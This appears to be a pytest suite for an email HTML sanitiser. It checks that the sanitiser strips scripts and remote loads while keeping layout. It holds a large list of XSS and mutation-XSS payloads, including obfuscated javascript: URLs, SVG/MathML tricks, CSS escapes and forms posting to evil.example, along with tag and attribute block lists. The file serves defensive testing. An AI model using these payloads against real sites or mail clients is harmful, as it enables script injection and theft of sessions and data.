"""The HTML sanitiser: nothing that runs, loads or leaves survives; email layout does."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from sealbox.mailstore.sanitize import (
    CleanHTML,
    clean_html,
    has_remote_images,
    html_as_text,
    may_load_from,
)

PNG_DATA = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
EVIL = "https://evil.example"
JS = "alert(1)"

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "param", "form",
    "input", "button", "textarea", "select", "option", "meta", "base", "link", "svg", "math",
    "style", "noscript", "template", "video", "audio", "source", "track", "picture", "isindex",
    "xmp", "noembed", "portal", "image", "animate", "set", "use", "foreignobject", "mglyph",
    "marquee", "bgsound", "layer", "ilayer", "xml", "title", "head", "body", "html",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "cite"}
NEVER_ATTRIBUTES = {
    "action", "formaction", "background", "poster", "xlink:href", "srcset", "srcdoc", "data",
    "dynsrc", "lowsrc", "codebase", "ping", "longdesc", "http-equiv", "target_", "xmlns",
    "class", "id", "name_",
}  # fmt: skip
SAFE_DATA_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*$", re.I)
CSS_DANGER = re.compile(r"url\s*\(|expression|image-set|@import|behavior|binding|\\|/\*", re.I)


class Elements(HTMLParser):
    """Every element and attribute of the sanitised output, as a browser parses it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {k: v or "" for k, v in attrs}))


def assert_harmless(html: str) -> None:
    assert "<script" not in html.lower()
    for tag, attrs in Elements(html).found:
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> survived in {html!r}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} on <{tag}> survived"
            assert name not in NEVER_ATTRIBUTES, f"{name} on <{tag}> survived"
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES:
                assert not squeezed.startswith(("javascript:", "vbscript:", "livescript:"))
                if squeezed.startswith("data:"):
                    assert (tag, name) == ("img", "src") and SAFE_DATA_IMAGE.match(value), value
            if name == "style":
                assert not CSS_DANGER.search(value), f"style {value!r} survived"


def clean(html: str, allow_remote: bool = False) -> CleanHTML:
    return clean_html(html, lambda cid: None, allow_remote=allow_remote)


VECTORS = {
    # scripts and event handlers
    "script": f"<script>{JS}</script><p>text</p>",
    "script in head": f"<html><head><script src='{EVIL}/x.js'></script></head><body>x</body></html>",
    "script upper case": f"<SCRIPT>{JS}</SCRIPT>",
    "script split": f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "script module": f"<script type=module>{JS}</script>",
    "img onerror": f"<img src=x onerror={JS}>",
    "img onload remote": f"<img src='{EVIL}/a.png' onload={JS}>",
    "body onload": f"<body onload={JS}>x</body>",
    "div onmouseover": f"<div onmouseover='{JS}'>hover</div>",
    "a onclick": f"<a href='https://ok.example' onclick='{JS}'>x</a>",
    "details ontoggle": f"<details open ontoggle={JS}><summary>s</summary></details>",
    "table onpointerenter": f"<table onpointerenter={JS}><tr><td onfocus={JS}>x</td></tr></table>",
    "p onanimationstart": f"<p style='animation-name:x' onanimationstart={JS}>x</p>",
    "input autofocus": f"<input autofocus onfocus={JS}>",
    "select onfocus": f"<select autofocus onfocus={JS}><option>x</option></select>",
    "textarea onfocus": f"<textarea autofocus onfocus={JS}>x</textarea>",
    "marquee onstart": f"<marquee onstart={JS}>x</marquee>",
    "video source onerror": f"<video><source onerror={JS}></video>",
    "audio onerror": f"<audio src=x onerror={JS}></audio>",
    "handler without quotes or space": f"<img/src=x/onerror={JS}>",
    "handler after slash": f"<img src=x /onerror={JS}>",
    "uppercase handler": f"<IMG SRC=x ONERROR={JS}>",
    # javascript:, vbscript: and data: URLs
    "a javascript": f"<a href='javascript:{JS}'>x</a>",
    "a javascript mixed case": f"<a href='JaVaScRiPt:{JS}'>x</a>",
    "a javascript entity colon": f"<a href='javascript&#58;{JS}'>x</a>",
    "a javascript named colon": f"<a href='javascript&colon;{JS}'>x</a>",
    "a javascript decimal entities": "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "a javascript hex entity": f"<a href='&#x6A;avascript:{JS}'>x</a>",
    "a javascript tab": f"<a href='java\tscript:{JS}'>x</a>",
    "a javascript newline": f"<a href='java\nscript:{JS}'>x</a>",
    "a javascript entity tab": f"<a href='jav&#x09;ascript:{JS}'>x</a>",
    "a javascript entity newline": f"<a href='jav&NewLine;ascript:{JS}'>x</a>",
    "a javascript leading space": f"<a href=' &#x09; javascript:{JS}'>x</a>",
    "a javascript leading control": f"<a href='\x01javascript:{JS}'>x</a>",
    "a vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "a livescript": f"<a href='livescript:{JS}'>x</a>",
    "a data html": f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    "a data html base64": "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "img javascript": f"<img src='javascript:{JS}'>",
    "img entity tab javascript": f"<img src='jav&#x09;ascript:{JS}'>",
    "img data svg": "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "img data html": f"<img src='data:text/html,<script>{JS}</script>'>",
    "img srcset": f"<img srcset='javascript:{JS} 1x, {EVIL}/b.png 2x'>",
    "img dynsrc lowsrc": f"<img dynsrc='javascript:{JS}' lowsrc='javascript:{JS}'>",
    "form action": f"<form action='javascript:{JS}'><input type=submit></form>",
    "button formaction": f"<form><button formaction='javascript:{JS}'>go</button></form>",
    "input formaction": f"<input type=image src=x formaction='{EVIL}/steal'>",
    "table background": f"<table background='javascript:{JS}'><tr><td background='{EVIL}/td.png'>x</td></tr></table>",
    "body background": f"<body background='javascript:{JS}'>x</body>",
    "video poster": f"<video poster='javascript:{JS}' src='{EVIL}/v.mp4'></video>",
    "blockquote cite": f"<blockquote cite='javascript:{JS}'>quote</blockquote>",
    "a ping": f"<a href='https://ok.example' ping='{EVIL}/ping'>x</a>",
    # SVG and MathML
    "svg onload": f"<svg onload={JS}><circle r=5 /></svg>",
    "svg script": f"<svg><script>{JS}</script></svg>",
    "svg xlink href": f"<svg><a xlink:href='javascript:{JS}'><text y=10>x</text></a></svg>",
    "svg animate": f"<svg><animate onbegin={JS} attributeName=x dur=1s /></svg>",
    "svg set href": f"<svg><a><set attributeName=href to='javascript:{JS}'/><text>x</text></a></svg>",
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id=x onload={JS}>#x'/></svg>",
    "svg foreignobject": f"<svg><foreignObject><iframe src='javascript:{JS}'></iframe></foreignObject></svg>",
    "svg image": f"<svg><image href='{EVIL}/svg.png'/></svg>",
    "math href": f"<math href='javascript:{JS}'><mi>x</mi></math>",
    "math maction": f"<math><maction actiontype=statusline xlink:href='javascript:{JS}'>x</maction></math>",
    "math mtext link": f"<math><mtext><a href='javascript:{JS}'>x</a></mtext></math>",
    # frames, objects, embeds
    "iframe src": f"<iframe src='javascript:{JS}'></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    "iframe remote": f"<iframe src='{EVIL}/frame.html'></iframe>",
    "frameset": f"<frameset><frame src='{EVIL}/f.html'></frameset>",
    "object": f"<object data='javascript:{JS}'></object>",
    "object flash": f"<object data='{EVIL}/x.swf' type='application/x-shockwave-flash'><param name=movie value=x></object>",
    "embed": f"<embed src='javascript:{JS}'>",
    "embed svg": f"<embed src='{EVIL}/x.svg' type='image/svg+xml'>",
    "applet": f"<applet code=X.class codebase='{EVIL}/'></applet>",
    "portal": f"<portal src='{EVIL}/p.html'></portal>",
    # CSS
    "style url": f"<div style='background:url({EVIL}/bg.png)'>x</div>",
    "style url javascript": f"<div style='background-image:url(javascript:{JS})'>x</div>",
    "style expression": f"<div style='width:expression({JS})'>x</div>",
    "style escaped expression": f"<div style='width:e\\78pression({JS})'>x</div>",
    "style behavior": "<div style='behavior:url(x.htc)'>x</div>",
    "style moz binding": "<div style='-moz-binding:url(x.xml#x)'>x</div>",
    "style escaped url": f"<div style='background:u\\72l({EVIL}/e.png)'>x</div>",
    "style escaped url long": f"<div style='background:\\000075rl({EVIL}/e.png)'>x</div>",
    "style escaped letter": f"<div style='background:ur\\l({EVIL}/e.png)'>x</div>",
    "style entity url": f"<div style='background:&#117;rl({EVIL}/e.png)'>x</div>",
    "style comment url": f"<div style='background:ur/**/l({EVIL}/c.png)'>x</div>",
    "style image-set": f"<div style=\"background:image-set('{EVIL}/i.png' 1x)\">x</div>",
    "style webkit image-set": f"<div style=\"background:-webkit-image-set('{EVIL}/i.png' 1x)\">x</div>",
    "style list image": f"<ul style='list-style-image:url({EVIL}/l.png)'><li>x</li></ul>",
    "style import": f"<style>@import url({EVIL}/x.css); p {{ color: red }}</style><p>x</p>",
    "style import string": f"<style>@import '{EVIL}/x.css';</style><p>x</p>",
    "style font face": f"<style>@font-face {{ font-family: X; src: url({EVIL}/f.woff) }} p {{ font-family: X }}</style><p>x</p>",
    "style rule url": f"<style>p {{ background: url({EVIL}/r.png) }}</style><p>x</p>",
    "style rule escaped url": f"<style>p {{ background-image: \\75 rl({EVIL}/r.png) }}</style><p>x</p>",
    "style rule expression": f"<style>p {{ width: expression({JS}) }}</style><p>x</p>",
    "style closes early": f"<style></style><script>{JS}</script></style><p>x</p>",
    # documents, refreshes, bases, forms, links
    "meta refresh": f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    "meta refresh remote": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "meta set cookie": "<meta http-equiv=set-cookie content='a=b'>",
    "base href": f"<base href='javascript:{JS}//'><a href='x'>x</a>",
    "base remote": f"<base href='{EVIL}/'><img src='x.png'>",
    "form": f"<form action='{EVIL}/steal' method=post><input name=p type=password></form>",
    "isindex": f"<isindex action='javascript:{JS}' type=image>",
    "link stylesheet": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "link import": f"<link rel=import href='{EVIL}/x.html'>",
    "link prefetch": f"<link rel=prefetch href='{EVIL}/p'>",
    "a target self": "<a href='https://ok.example' target=_self>x</a>",
    # mutation XSS and parser differentials
    "noscript title": f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    "math mglyph style": f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    "svg p style": f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    "form math": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    "math svg textarea": f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={JS} src=1>">',
    "xmp": f"<xmp><img src=x onerror={JS}></xmp>",
    "noembed": f"<noembed><img src=x onerror={JS}></noembed>",
    "template": f"<template><img src=x onerror={JS}></template>",
    "comment": f'<!--<img src="--><img src=x onerror={JS}>-->',
    "conditional comment": f"<!--[if gte IE 4]><script>{JS}</script><![endif]-->",
    "cdata": f"<![CDATA[<img src=x onerror={JS}>]]>",
    "title": f"<title><img src=x onerror={JS}></title>",
    "textarea": f"<textarea><img src=x onerror={JS}></textarea>",
    "unclosed attribute": f'<img src="x" alt="<script>{JS}</script>"',
    "quote confusion": f'<img """><script>{JS}</script>">',
    "null byte": f"<scr\x00ipt>{JS}</script><img src=x o\x00nerror={JS}>",
    "xml namespace": f"<html xmlns:x><x:script>{JS}</x:script></html>",
    "processing instruction": f"<?xml-stylesheet href='{EVIL}/x.xsl'?><p>x</p>",
}


@pytest.mark.parametrize("html", VECTORS.values(), ids=VECTORS.keys())
def test_nothing_that_runs_or_loads_survives(html: str) -> None:
    assert_harmless(clean(html).html)


@pytest.mark.parametrize("html", VECTORS.values(), ids=VECTORS.keys())
def test_nothing_that_runs_survives_even_with_remote_images_allowed(html: str) -> None:
    assert_harmless(clean(html, allow_remote=True).html)


def test_the_checker_itself_catches_what_it_looks_for() -> None:
    for bad in (
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=' java\tscript:x'>",
        "<a href='data:text/html,x'>",
        "<img src='data:image/svg+xml;base64,AA=='>",
        "<p style='background:url(x)'>",
        "<svg>",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(bad)


def test_it_keeps_the_text_around_removed_elements() -> None:
    html = clean(f"<p>Dear reader,</p><script>{JS}</script><iframe></iframe><p>regards</p>").html

    assert html == "<p>Dear reader,</p><p>regards</p>"


def test_it_escapes_text_that_looks_like_markup() -> None:
    html = clean("<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>").html

    assert html == "<p>1 &lt; 2 &amp;&amp; &lt;script&gt;</p>"


def test_it_keeps_tables_and_their_layout_attributes() -> None:
    html = clean(
        '<table width="600" cellpadding="4" cellspacing="0" border="1" bgcolor="#eeeeee" align="center">'
        '<thead><tr><th colspan="2" align="left">Quarter</th></tr></thead>'
        '<tbody><tr><td valign="top" width="50%">Q3</td><td nowrap>€ 4.2 m</td></tr></tbody></table>'
    ).html

    assert (
        '<table width="600" cellpadding="4" cellspacing="0" border="1" bgcolor="#eeeeee" align="center">'
        in html
    )
    assert '<th colspan="2" align="left">Quarter</th>' in html
    assert '<td valign="top" width="50%">Q3</td>' in html
    assert "<td nowrap>€ 4.2 m</td>" in html or '<td nowrap="">€ 4.2 m</td>' in html


def test_it_keeps_inline_styles_with_safe_properties_only() -> None:
    html = clean(
        '<p style="color: #12355b; font-family: Georgia, serif; padding: 4px 8px; '
        "background-color: rgb(238, 244, 251); position: fixed; top: 0; z-index: 999; "
        'border: 1px solid #9bb8d8">x</p>'
    ).html

    assert html == (
        '<p style="color:#12355b;font-family:Georgia , serif;padding:4px 8px;'
        'background-color:rgb(238, 244, 251);border:1px solid #9bb8d8">x</p>'
    )


def test_it_inlines_style_rules_instead_of_dropping_them() -> None:
    html = clean(
        "<html><head><style>"
        "td.figure { font-weight: bold; color: #0b5cad } h1 { font-family: Georgia, serif }"
        "</style></head><body><h1>Results</h1><table><tr><td class=figure>4.2</td></tr></table>"
        "</body></html>"
    ).html

    assert '<h1 style="font-family:Georgia , serif">Results</h1>' in html
    assert '<td style="font-weight:bold;color:#0b5cad">4.2</td>' in html
    assert_harmless(html)


def test_it_keeps_the_safe_rules_of_a_style_block_with_a_remote_one() -> None:
    html = clean(
        f"<style>p {{ color: red; background: url({EVIL}/t.png); font-weight: bold }}</style><p>x</p>"
    ).html

    assert html == '<p style="color:red;font-weight:bold">x</p>'


@pytest.mark.parametrize(
    "href",
    [
        "https://corp.example/a?b=1&c=2",
        "http://corp.example/",
        "mailto:carol@corp.example",
        "tel:+431234",
    ],
)
def test_links_open_in_a_new_tab_without_referrer_or_opener(href: str) -> None:
    html = clean(f'<a href="{href}" target="_self" rel="opener">link</a>').html

    [(_tag, attrs)] = Elements(html).found
    assert attrs == {"href": href, "target": "_blank", "rel": "noopener noreferrer"}


def test_it_drops_relative_links_which_would_point_into_the_portal() -> None:
    html = clean('<a href="/m/1/delete/">x</a><a href="../inbox/">y</a>').html

    assert "href" not in html


def test_remote_images_are_removed_and_counted_when_not_allowed() -> None:
    result = clean(
        f'<p><img src="{EVIL}/a.png" alt="a"><img src="//evil.example/b.png">'
        f'<img src=" HTTP://evil.example/c.png"><img src="{PNG_DATA}"></p>'
    )

    srcs = [attrs.get("src") for tag, attrs in Elements(result.html).found if tag == "img"]
    assert srcs == [None, None, None, PNG_DATA]
    assert result.blocked_remote == 3


def test_remote_images_are_kept_when_allowed() -> None:
    result = clean(f'<img src="{EVIL}/a.png"><img src="//evil.example/b.png">', allow_remote=True)

    srcs = [attrs.get("src") for tag, attrs in Elements(result.html).found if tag == "img"]
    assert srcs == [f"{EVIL}/a.png", "https://evil.example/b.png"]
    assert result.blocked_remote == 0


def test_remote_css_stays_out_even_when_remote_images_are_allowed() -> None:
    result = clean(
        f'<div style="background: url({EVIL}/bg.png); color: red">x</div>', allow_remote=True
    )

    assert result.html == '<div style="color:red">x</div>'


def test_cid_images_are_pointed_at_what_cid_url_answers() -> None:
    asked: list[str] = []

    def cid_url(cid: str) -> str | None:
        asked.append(cid)
        return PNG_DATA if cid == "logo@corp.example" else None

    result = clean_html(
        '<img src="cid:logo@corp.example" alt="logo"><img src="CID:<other@x>" alt="other">',
        cid_url,
    )

    assert Elements(result.html).found == [
        ("img", {"src": PNG_DATA, "alt": "logo"}),
        ("img", {"alt": "other"}),
    ]
    assert asked == ["logo@corp.example", "other@x"]
    assert result.blocked_remote == 0


@pytest.mark.parametrize(
    ("html", "remote"),
    [
        (f'<img src="{EVIL}/a.png">', True),
        ("<IMG alt=x SRC='//evil.example/b.png'>", True),
        ('<img src="cid:logo@x">', False),
        (f'<img src="{PNG_DATA}">', False),
        (f'<a href="{EVIL}/page">not an image</a>', False),
    ],
)
def test_it_tells_whether_html_asks_for_remote_images(html: str, remote: bool) -> None:
    assert has_remote_images(html) is remote


def test_huge_html_is_cleaned_without_trouble() -> None:
    html = "<style>p { color: red }</style>" + "<p onclick=x>row</p>" * 200_000

    result = clean(html)

    assert result.html.count("<p>row</p>") == 200_000


def test_the_bodys_look_is_kept_on_a_wrapping_div() -> None:
    html = clean(
        "<html><head><style>body { background: #f3f5f8; color: #222 }</style></head>"
        '<body bgcolor="#eeeeee" onload="steal()"><p>hi</p></body></html>'
    ).html

    assert html == ('<div bgcolor="#eeeeee" style="background:#f3f5f8;color:#222"><p>hi</p></div>')


def test_style_rules_too_costly_to_apply_are_left_out_and_the_content_kept() -> None:
    # css-inline matches every rule against every element: 20,000 of each took 32 s.
    html = "<style>" + "p { color: red }" * 20_000 + "</style>" + "<p>row</p>" * 20_000

    started = time.process_time()
    result = clean(html)
    elapsed = time.process_time() - started

    assert result.html == "<p>row</p>" * 20_000
    assert elapsed < 5


def test_html_as_text_keeps_the_words_and_drops_markup_and_hidden_content() -> None:
    html = (
        "<html><head><title>Title</title><STYLE>p { color: red }</style></head>"
        "<body><h1>Offer</h1><p>Tom &amp; Jerry&nbsp;say <b>hi</b> &#x1F600; &#"
        + "9"
        * 5000
        + ";</p><!-- <p>hidden</p> --><script>alert(1)</SCRIPT>"
        "<ul><li>one</li><li>two</li></ul>1 < 2 <p></p><p></p><p>end"
    )

    assert html_as_text(html) == (
        "Offer\n\nTom & Jerry say hi \U0001f600 \ufffd\n\none\ntwo\n\n1 < 2\n\nend"
    )
    assert html_as_text("<head><title>T</title><body>Body text") == "Body text"


def test_html_as_text_reads_white_space_as_a_browser_does() -> None:
    html = "<p>A paragraph\n  wrapped&#10;in\tthe source,<br>then a break</p>\n<ul>\n<li>one\n<li>two</ul>"

    assert html_as_text(html) == "A paragraph wrapped in the source,\nthen a break\n\none\ntwo"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://news.example/a.png", True),
        ("//news.example/a.png", True),
        ("https://203.0.113.7/a.png", True),
        ("https://portal.example/m/1/", False),
        ("HTTPS://PORTAL.EXAMPLE:8443/a.png", False),
        ("https://portal.example./a.png", False),
        ("https://someone@portal.example/a.png", False),
        # Read by a browser as portal.example, whatever Python's urlsplit makes of them.
        ("https://portal.example\\@news.example/a.png", False),
        ("https://portal.exa\tmple/a.png", False),
        ("https://portal%2Eexample/a.png", False),
        ("https://2130706433/a.png", False),
        ("https://127.1/a.png", False),
        ("https://0x7f.0.0.1/a.png", False),
        ("https://[::1/a.png", False),
    ],
)
def test_remote_images_never_point_at_the_portal_itself(url: str, allowed: bool) -> None:
    """The frame shares the portal's origin: an image there would be fetched with the session."""
    assert may_load_from(url, {"portal.example", "127.0.0.1"}) is allowed
    kept = clean_html(f'<img src="{url}">', lambda cid: None, True, {"portal.example"}).html
    assert ("src=" in kept) is allowed
